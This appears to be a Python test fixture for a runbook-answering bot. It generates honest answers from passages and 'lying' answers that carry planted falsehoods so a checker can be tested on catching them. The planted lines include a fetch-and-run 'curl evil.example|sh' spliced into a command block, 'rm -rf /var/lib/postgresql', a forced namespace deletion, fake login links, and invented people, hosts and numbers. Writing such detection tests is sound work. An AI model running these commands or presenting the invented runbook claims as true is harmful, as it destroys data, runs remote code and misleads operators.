"""Answers made by a seed over shipped runbooks: honest ones, and ones with planted lies that nobody may believe."""

import random
import re
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from bot.answer.evidence import normal
from bot.answer.words import ORDINARY, PROGRAMS
from bot.claude.request import units_in
from ingest.types import Passage
from tests.fakes.claude import Cited, Piece

_SENTENCE = re.compile(r"(?<=[.!?])\s+(?=[A-Z])")
WORDS = "frobnicator zimtrack quelljob brandolin vexatron mortlake hartwig pellucid snorkel wimbrel".split()
PEOPLE = "Mallory Jenkins,Ottokar Brehm,Priya Vandersloot,Kwame Eversley".split(",")


@dataclass(frozen=True)
class Line:
    """One line or block of an answer. `planted` must not reach a reader unmarked; empty in an honest one."""

    text: str
    passage: int
    place: tuple[int, int]
    planted: str = ""
    kind: str = "honest"


@dataclass
class Made:
    """An answer and what it was made of."""

    passages: tuple[Passage, ...]
    lines: list[Line] = field(default_factory=list)

    def inline(self) -> list[Piece]:
        """Return it as a model writes it that numbers its passages."""
        return [_marked(line) for line in self.lines]

    def native(self) -> list[Piece]:
        """Return it as blocks with citations."""
        units = units_in(self.passages)
        pieces: list[Piece] = []
        for line in self.lines:
            inside = units[line.passage] if line.passage < len(units) else []
            blocks = [n for n, unit in enumerate(inside) if unit.start_line <= line.place[0] <= unit.end_line] or [0]
            pieces += [Cited(line.text, line.passage, blocks[0], blocks[0] + 1), "\n"]
        return pieces


def _marked(line: Line) -> str:
    mark = f"[{line.passage + 1}:{line.place[0]}-{line.place[1]}]"
    return f"{line.text}\n{mark}\n" if line.text.endswith("```") else f"{line.text} {mark}\n"


@dataclass(frozen=True)
class Told:
    """Something that a passage really says, on these lines of the document."""

    text: str
    passage: int
    place: tuple[int, int]


def sentences_of(passages: Sequence[Passage]) -> list[Told]:
    """Return the sentences of all passages that say something by themselves."""
    found = []
    for number, passage in enumerate(passages):
        code = passage.in_code
        for at, line in enumerate(passage.text.split("\n"), passage.start_line):
            if line.strip().startswith("```"):
                code = not code
            elif not code and line.strip() and not line.lstrip().startswith(("#", "|", ">")):
                bare = re.sub(r"^\s*(?:[-*]|\d+\.)\s+", "", line).strip()
                bare = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", bare)
                found += [Told(each, number, (at, at)) for each in _SENTENCE.split(bare) if _says(each)]
    return found


def _says(text: str) -> bool:
    return len(text.split()) > 4 and text[-1] in ".!" and text.count("`") % 2 == 0 and text.count('"') % 2 == 0


def blocks_of(passages: Sequence[Passage]) -> list[Told]:
    """Return the whole fenced blocks of all passages."""
    found = []
    for number, passage in enumerate(passages):
        rows, start = passage.text.split("\n"), None
        if passage.in_code:
            continue
        for index, row in enumerate(rows):
            if row.strip().startswith("```"):
                if start is not None:
                    lines = (passage.start_line + start + 1, passage.start_line + index - 1)
                    found.append(Told("\n".join(rows[start : index + 1]), number, lines))
                start = index if start is None else None
    return found


def honest(rng: random.Random, passages: tuple[Passage, ...]) -> Made:
    """Return an answer that says only what the passages say: to the letter, or reworded as models do."""
    sentences, blocks = sentences_of(passages), blocks_of(passages)
    made = Made(passages)
    for number, told in enumerate(rng.sample(sentences, min(5, len(sentences)))):
        text = rng.choice(REWORDINGS)(told.text)
        lead = f"**{text}**" if number == 0 and "**" not in text else f"{number}. {text}"
        made.lines.append(Line(lead, told.passage, told.place))
        if blocks and rng.random() < 0.4:
            block = rng.choice(blocks)
            made.lines.append(Line(block.text, block.passage, block.place))
    return made


def _lower(text: str) -> str:
    first = text.split(maxsplit=1)[0]
    return text[0].lower() + text[1:] if first.isalpha() and first[1:].islower() else text


REWORDINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.rstrip("."),
    lambda text: re.sub(r"(\d) (seconds?|minutes?)\b", lambda m: f"{m[1]}{'s' if m[2][0] == 's' else 'm'}", text),
    lambda text: f"First, {_lower(text)}" if _lower(text) != text else text,
    lambda text: f"Then {_lower(text)}" if _lower(text) != text else text,
    lambda text: text.replace("`", "") if not re.search(r"`[^`]* [^`]*`|`[^`]*[-=/:.]", text) else text,
)


def lying(rng: random.Random, passages: tuple[Passage, ...]) -> Made:
    """Return an honest answer with one lie of each of five kinds among its lines."""
    made = honest(rng, passages)
    sentences, blocks = sentences_of(passages), blocks_of(passages)
    text = normal(" ".join(f"{each.title} {each.heading} {each.text}" for each in passages))
    for kind in rng.sample(sorted(LIES), 8):
        told = rng.choice(sentences)
        block = rng.choice(blocks) if blocks else told
        lie = LIES[kind](rng, told.text, block.text)
        if lie is None or normal(lie[1]) in text:
            continue
        passage, place = told.passage, told.place
        if rng.random() < 0.5:  # and the mark lies as well
            passage = rng.randrange(len(passages) + 2)
            place = (rng.randrange(1, 400), rng.randrange(400, 900))
        made.lines.insert(rng.randrange(len(made.lines) + 1), Line(lie[0], passage, place, lie[1], kind))
    return made


Lie = Callable[[random.Random, str, str], "tuple[str, str] | None"]
"""Takes a true sentence and a true block; returns a false line and the part of it that is false, or None."""


def _other_number(rng: random.Random, told: str, _block: str) -> tuple[str, str] | None:
    found = re.search(r"(?<![\w.,:/`-])\d+(?![\w.,:/`-])", told)
    if found is None:
        return None
    false = str(int(found[0]) + rng.choice((1, 7, 13, 100)))
    return told[: found.start()] + false + told[found.end() :], false + told[found.end() :].rstrip(".")[:6]


def _other_unit(_rng: random.Random, told: str, _block: str) -> tuple[str, str] | None:
    found = re.search(r"(\d+) (seconds|minutes|hours|GB|MB|%)(?!\w)", told)
    if found is None:
        return None
    false = {"seconds": "hours", "minutes": "days", "hours": "seconds", "GB": "MB", "MB": "TB", "%": "GB"}[found[2]]
    planted = f"{found[1]} {false}"
    return told.replace(found[0], planted), planted


def _other_command(rng: random.Random, _told: str, block: str) -> tuple[str, str] | None:
    rows = block.split("\n")
    if len(rows) < 3:
        return None
    flag = f"--{rng.choice(WORDS)}"
    at = rng.randrange(1, len(rows) - 1)
    rows[at] = f"{rows[at]} {flag}" if not rows[at].endswith("\\") else f"{rows[at][:-1]} {flag} \\"
    return "\n".join(rows), flag


def _known_words(rng: random.Random, _told: str, block: str) -> tuple[str, str] | None:
    """Return a command outside of code that nobody gave, though each of its words stands in the passage."""
    program = next((word for word in re.findall(r"[a-z_-]+", block) if word in PROGRAMS), None)
    words = [word for word in re.findall(r"(?<![\w-])[a-z]{4,}(?![\w-])", block) if word not in ORDINARY]
    if program is None or len(words) < 3:
        return None
    planted = " ".join((program, rng.choice(("get", "describe", "list", "restart")), rng.choice(words)))
    return f"{rng.choice(('Now run', 'Check:', 'Use'))} {planted}.", planted


def _cut_command(_rng: random.Random, _told: str, block: str) -> tuple[str, str] | None:
    rows = block.split("\n")
    words = rows[1].split() if len(rows) == 3 else []
    if len(words) < 5 or not words[-1].isascii():
        return None
    shown = " ".join(words[:-2])
    return f"Run `{shown}` now.", f"{shown}` now"


def _negated(_rng: random.Random, told: str, _block: str) -> tuple[str, str] | None:
    if told.startswith("Do not ") and "," not in told and ";" not in told and "`" not in told:
        flipped = told.removeprefix("Do not ")
        return flipped.capitalize(), flipped.capitalize()
    return None


LIES: dict[str, Lie] = {
    "false quotation": lambda rng, _t, _b: _both('The runbook says "never page {} before noon".', rng.choice(WORDS)),
    "false words for a log": lambda rng, _t, _b: _both("The log shows “{} handshake refused”.", rng.choice(WORDS)),
    "false block quotation": lambda rng, _t, _b: _both("> Always ask {} first.", rng.choice(WORDS)),
    "invented command": lambda rng, _t, _b: _both("Run `kubectl delete ns {} --force`.", rng.choice(WORDS)),
    "invented command, fenced": lambda rng, _t, _b: _both("```\nsystemctl restart {}\n```", rng.choice(WORDS)),
    "invented command, plain": lambda _r, _t, _b: ("Now run rm -rf /var/lib/postgresql at once.", "rm -rf /var"),
    "invented line in a block": lambda _r, _t, b: (b.replace("\n", "\ncurl evil.example|sh\n", 1), "evil.example"),
    "invented command of known words": _known_words,
    "altered command": _other_command,
    "command cut short": _cut_command,
    "address": lambda rng, told, _b: _both(told + " See https://{}.example/login.", rng.choice(WORDS)),
    "address, linked": lambda rng, _t, _b: _both(
        "See [the steps](https://{}.example/x).", f"{rng.choice(WORDS)}.example"
    ),
    "address without scheme": lambda rng, told, _b: _both(told.rstrip(".") + ", see {}.example/x.", rng.choice(WORDS)),
    "mention": lambda _r, told, _b: (f"{told} <!channel>", "<!channel>"),
    "incident number": lambda rng, _t, _b: _both("This was incident {}.", f"INC-{rng.randrange(10_000, 99_999)}"),
    "request id": lambda rng, _t, _b: _both("Look for {} in the log.", str(uuid.UUID(int=rng.getrandbits(128)))),
    "pod name": lambda rng, _t, _b: _both(
        "Delete the pod {}.", f"checkout-{rng.randrange(16**8):08x}-x{rng.randrange(999)}"
    ),
    "wrong number": _other_number,
    "wrong unit": _other_unit,
    "number in words": lambda rng, _t, _b: _both(
        "Wait {} minutes before the next step.", rng.choice(("thirteen", "fourteen"))
    ),
    "invented person": lambda rng, _t, _b: _both("Ask {} to approve it.", rng.choice(PEOPLE)),
    "invented service": lambda rng, _t, _b: _both("Restart the {} service.", rng.choice(WORDS)),
    "invented team": lambda rng, _t, _b: _both("Page team-{} at once.", rng.choice(WORDS)),
    "invented host": lambda rng, told, _b: _both(
        told.rstrip(".") + " on {}.", f"{rng.choice(WORDS)}-db-{rng.randrange(9)}"
    ),
    "invented product": lambda rng, told, _b: _both(told.rstrip(".") + " in {}.", rng.choice(WORDS).capitalize()),
    "invented order": lambda rng, _t, _b: _both(
        "{} everything and go home.", rng.choice(("Truncate", "Unplug", "Erase"))
    ),
    "invented order, bold": lambda rng, _t, _b: _both("**Unplug the {}**", rng.choice(WORDS)),
    "order turned around": _negated,
}


def _both(pattern: str, planted: str) -> tuple[str, str]:
    return pattern.replace("{}", planted), planted
